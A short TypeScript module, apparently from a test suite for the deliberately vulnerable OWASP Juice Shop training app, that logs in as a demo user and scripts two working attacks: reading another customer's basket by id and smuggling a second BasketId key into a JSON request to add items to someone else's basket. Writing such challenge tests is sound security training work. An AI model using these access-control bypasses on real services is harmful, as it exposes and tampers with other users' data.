import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'

/** Jim's bearer header and basket id, from a normal login. */
async function jim(target: AttackTarget): Promise<{ bearer: string; bid: number }> {
  const login = await request(target).post('/rest/user/login').send({ email: 'jim@juice-sh.op', password: 'ncc-1701' })
  return { bearer: `Bearer ${login.body.authentication.token}`, bid: login.body.authentication.bid }
}

/** The body the basket check reads the first BasketId of, and the insert the last one (JSON keeps the last). */
export const twoBasketIds = (own: number, other: number) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 1, "BasketId": "${other}"}`

export const basketAttacks = {
  // any logged-in customer may open any basket by its id
  basketAccessChallenge: async (target) => request(target).get('/rest/basket/1').set('Authorization', (await jim(target)).bearer),
  basketManipulateChallenge: async (target) => {
    const { bearer, bid } = await jim(target)
    return request(target).post('/api/BasketItems').set('Authorization', bearer).set('Content-Type', 'application/json').send(twoBasketIds(bid, 1))
  },
} satisfies Attacks
